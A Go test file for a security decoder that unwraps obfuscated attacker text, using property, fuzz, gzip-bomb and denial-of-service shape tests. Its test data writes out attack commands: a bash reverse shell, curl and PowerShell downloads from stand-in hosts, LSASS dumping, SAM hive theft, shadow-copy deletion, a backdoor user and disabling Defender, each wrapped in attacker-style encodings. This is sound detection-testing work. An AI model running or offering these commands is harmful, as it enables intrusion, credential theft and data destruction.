package decode_test

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/casemate-ai/casemate/internal/security/decode"
	"pgregory.net/rapid"
)

func wide(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return b
}

func packed(s, kind string) []byte {
	var b bytes.Buffer
	switch kind {
	case "gzip":
		w := gzip.NewWriter(&b)
		_, _ = w.Write([]byte(s))
		_ = w.Close()
	case "zlib":
		w := zlib.NewWriter(&b)
		_, _ = w.Write([]byte(s))
		_ = w.Close()
	case "deflate":
		w, _ := flate.NewWriter(&b, 9)
		_, _ = w.Write([]byte(s))
		_ = w.Close()
	}
	return b.Bytes()
}

func each(s, format, sep string) string {
	var parts []string
	for i := range len(s) {
		parts = append(parts, fmt.Sprintf(format, s[i]))
	}
	return strings.Join(parts, sep)
}

func xor(s string, key byte) []byte {
	b := []byte(s)
	for i := range b {
		b[i] ^= key
	}
	return b
}

func backwards(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}

// encoders hide ASCII text as attackers do. Those that quote only take text
// without quotes of that kind; the test leaves them out where they do not fit.
var encoders = []struct {
	name string
	bad  string // characters that the notation cannot hold
	hide func(string) string
}{
	{"base64", "", func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }},
	{"unpadded base64", "", func(s string) string { return base64.RawStdEncoding.EncodeToString([]byte(s)) }},
	{"url base64", "", func(s string) string { return "t=" + base64.URLEncoding.EncodeToString([]byte(s)) }},
	{"echo base64 -d", "", func(s string) string {
		return "echo " + base64.StdEncoding.EncodeToString([]byte(s)) + " | base64 -d | bash"
	}},
	{"powershell -enc", "", func(s string) string {
		return "powershell.exe -nop -enc " + base64.StdEncoding.EncodeToString(wide(s))
	}},
	{"gzip", "", func(s string) string { return base64.StdEncoding.EncodeToString(packed(s, "gzip")) }},
	{"zlib", "", func(s string) string { return base64.StdEncoding.EncodeToString(packed(s, "zlib")) }},
	{"deflate", "", func(s string) string {
		return "New-Object IO.Compression.DeflateStream([Convert]::FromBase64String('" + base64.StdEncoding.EncodeToString(packed(s, "deflate")) + "'))"
	}},
	{"hex", "", func(s string) string { return "x=" + hex.EncodeToString([]byte(s)) }},
	{"hex pairs", "", func(s string) string { return each(s, "%02x", " ") }},
	{"hex bytes", "", func(s string) string { return "[byte[]](" + each(s, "0x%02X", ",") + ")" }},
	{"decimal bytes", "", func(s string) string { return "[byte[]](" + each(s, "%d", ",") + ")" }},
	{"xor", "", func(s string) string {
		return "$b=[Convert]::FromBase64String('" + base64.StdEncoding.EncodeToString(xor(s, 0xB3)) + "');for($i=0;$i -lt $b.Count;$i++){$b[$i]=$b[$i] -bxor 0xB3}"
	}},
	{"percent", "", func(s string) string { return "/q?x=" + each(s, "%%%02X", "") }},
	{"double percent", "", func(s string) string { return "/q?x=" + each(s, "%%25%02x", "") }},
	{"x escapes", "", func(s string) string { return "echo -e " + each(s, `\x%02x`, "") }},
	{"u escapes", "", func(s string) string { return each(s, `\u%04x`, "") }},
	{"entities", "", func(s string) string { return each(s, "&#x%x;", "") }},
	{"fromCharCode", "", func(s string) string { return "eval(String.fromCharCode(" + each(s, "%d", ",") + "))" }},
	{"char codes", "", func(s string) string { return "iex(" + each(s, "[char]%d", "+") + ")" }},
	{"char join", "", func(s string) string { return "iex(-join[char[]](" + each(s, "%d", ",") + "))" }},
	{"concatenation", "'\"", func(s string) string { n := len(s) / 2; return "iex('" + s[:n] + "'+'" + s[n:] + "')" }},
	{"reverse", "'\"", func(s string) string { return "iex('" + backwards(s) + "'[-1..-" + fmt.Sprint(len(s)) + "] -join '')" }},
	{"format", "'\"{}", func(s string) string { n := len(s) / 2; return `iex("{1}{0}" -f '` + s[n:] + `','` + s[:n] + `')` }},
}

// commands are built from words, so that shrinking shows a readable case.
func commands() *rapid.Generator[string] {
	words := []string{
		"whoami /all", "net user bob Passw0rd1 /add", "curl -s http://evil.test/a.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
		"IEX (New-Object Net.WebClient).DownloadString(http://10.1.2.3/p.ps1)", "rundll32 comsvcs.dll MiniDump 624 out.dmp full",
		"vssadmin delete shadows /all /quiet", "reg save HKLM\\SAM sam.hive", "cat /etc/shadow", "nltest /domain_trusts",
		"schtasks /create /tn Updater /tr calc.exe /sc onlogon", "Set-MpPreference -DisableRealtimeMonitoring true",
	}
	return rapid.Custom(func(t *rapid.T) string {
		return strings.Join(rapid.SliceOfN(rapid.SampledFrom(words), 1, 3).Draw(t, "words"), "; ")
	})
}

// TestEveryNesting hides a command under up to three encodings and wants it
// back as the text of a layer.
func TestEveryNesting(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		command := commands().Draw(t, "command")
		text := command
		var names []string
		for range rapid.IntRange(1, 3).Draw(t, "depth") {
			e := encoders[rapid.IntRange(0, len(encoders)-1).Draw(t, "encoder")]
			if strings.ContainsAny(text, e.bad) {
				continue
			}
			text = e.hide(text)
			names = append(names, e.name)
		}
		if len(names) == 0 {
			return
		}
		if got := texts(decode.Layers(text, decode.Options{})); !strings.Contains(got, command) {
			t.Fatalf("%q under %v: %q reveals only %q", command, names, text, got)
		}
	})
}

// TestSpans checks that every layer stands where it says.
func TestSpans(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		text := commands().Draw(t, "command") + " " + encoders[rapid.IntRange(0, len(encoders)-1).Draw(t, "encoder")].hide(commands().Draw(t, "hidden"))
		checkLayers(t, text, decode.Layers(text, decode.Options{}))
	})
}

func checkLayers(t rapid.TB, text string, layers []decode.Layer) {
	t.Helper()
	for i, l := range layers {
		parent := text
		if l.Parent >= 0 {
			parent = layers[l.Parent].Text
		}
		if l.Parent >= i || l.Start < 0 || l.Start >= l.End || l.End > len(parent) {
			t.Fatalf("layer %d of %q: parent %d, span %d:%d of %d bytes", i, text, l.Parent, l.Start, l.End, len(parent))
		}
		if (l.Text == "") == (l.Binary == nil) || l.Op == "" || l.Why == "" {
			t.Fatalf("layer %d of %q: %+v", i, text, l)
		}
	}
}

// TestRandomTokens draws what random identifiers look like: none decodes.
func TestRandomTokens(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		b := rapid.SliceOfN(rapid.Byte(), 16, 32).Draw(t, "bytes")
		high := false
		for _, c := range b[:16] {
			high = high || c >= 0x80
		}
		if !high {
			return // one in 65,000, and then it may well be text
		}
		for _, s := range []string{hex.EncodeToString(b), strings.ToUpper(hex.EncodeToString(b))} {
			if got := decode.Layers("id="+s, decode.Options{}); len(got) > 0 {
				t.Fatalf("Layers(%q) = %+v, want none", s, got)
			}
		}
	})
}

// TestBomb inflates a megabyte of gzip that stands for a gigabyte.
func TestBomb(t *testing.T) {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	zeros := bytes.Repeat([]byte("A"), 1<<20)
	for range 64 {
		_, _ = w.Write(zeros)
	}
	_ = w.Close()
	layers := decode.Layers(base64.StdEncoding.EncodeToString(b.Bytes()), decode.Options{})
	if len(layers) == 0 || !layers[0].Cut || len(layers[0].Text) != decode.DefaultOutput {
		t.Fatalf("a gzip bomb gave %d layers, want one that is cut at %d bytes", len(layers), decode.DefaultOutput)
	}
}

// hostile are shapes that make careless scanners quadratic.
var hostile = map[string]func(n int) string{
	"parentheses":    func(n int) string { return strings.Repeat("(", n) },
	"open strings":   func(n int) string { return strings.Repeat("('a'+", n/5) },
	"lists":          func(n int) string { return "(" + strings.Repeat("'a',", n/4) + "'b')" },
	"concatenation":  func(n int) string { return strings.Repeat("'a'+", n/4) + "'b'" },
	"quotes":         func(n int) string { return strings.Repeat("'", n) },
	"mixed quotes":   func(n int) string { return strings.Repeat(`'"`, n/2) },
	"doubled quotes": func(n int) string { return "'" + strings.Repeat("a''", n/3) },
	"carets":         func(n int) string { return strings.Repeat("a^", n/2) },
	"percents":       func(n int) string { return strings.Repeat("%41%", n/4) },
	"deep percents":  func(n int) string { return strings.Repeat("%25", n/3) + "41" },
	"base64":         func(n int) string { return strings.Repeat("QUFBQUFBQUFBQUFBQUFB/", n/21) },
	"short base64":   func(n int) string { return strings.Repeat("QUFBQUFBQUFBQUFB ", n/17) },
	"hex":            func(n int) string { return strings.Repeat("41 ", n/3) },
	"numbers":        func(n int) string { return strings.Repeat("65,", n/3) },
	"set":            func(n int) string { return strings.Repeat("set a", n/5) },
	"set values":     func(n int) string { return strings.Repeat("set a=b&", n/8) + "%a%" },
	"dollars":        func(n int) string { return strings.Repeat("$a=$a+$a;", n/9) },
	"variables":      func(n int) string { return "$a='" + strings.Repeat("x", 4000) + "';" + strings.Repeat("$a+", n/3) },
	"bxor":           func(n int) string { return strings.Repeat("-bxor $a ", n/9) },
	"backslashes":    func(n int) string { return strings.Repeat(`\x41`, n/4) },
	"splits":         func(n int) string { return strings.Repeat("a'b'", n/4) },
	"casts":          func(n int) string { return strings.Repeat("[char]", n/6) },
	"joins":          func(n int) string { return strings.Repeat("-join ", n/6) },
	"replaces":       func(n int) string { return "'aaaa'" + strings.Repeat(".replace('a','aa')", n/18) },
	"indexes":        func(n int) string { return "'aaaa'" + strings.Repeat("[0..3]", n/6) },
	"tags":           func(n int) string { return strings.Repeat("\U000E0041", n/4) },
	"reversed":       func(n int) string { return strings.Repeat("'//:ptth' ", n/10) },
}

// TestHostile feeds half a megabyte of each shape; BenchmarkHostile shows that
// the cost is linear. A quadratic scanner would take minutes here.
func TestHostile(t *testing.T) {
	for name, make := range hostile {
		t.Run(name, func(t *testing.T) {
			text := make(512 << 10)
			checkLayers(t, text, decode.Layers(text, decode.Options{}))
		})
	}
}

func BenchmarkHostile(b *testing.B) {
	for name, make := range hostile {
		for _, n := range []int{64 << 10, 512 << 10} {
			b.Run(fmt.Sprintf("%s/%d", name, n), func(b *testing.B) {
				text := make(n)
				b.SetBytes(int64(n))
				for b.Loop() {
					decode.Layers(text, decode.Options{})
				}
			})
		}
	}
}

func FuzzLayers(f *testing.F) {
	for _, e := range encoders {
		f.Add(e.hide("whoami /all & net user"))
	}
	for _, make := range hostile {
		f.Add(make(300))
	}
	f.Fuzz(func(t *testing.T, text string) {
		checkLayers(t, text, decode.Layers(text, decode.Options{MaxOutput: 1 << 16}))
	})
}

func BenchmarkLayers(b *testing.B) {
	text := encoders[4].hide("IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/p.ps1')")
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		decode.Layers(text, decode.Options{})
	}
}
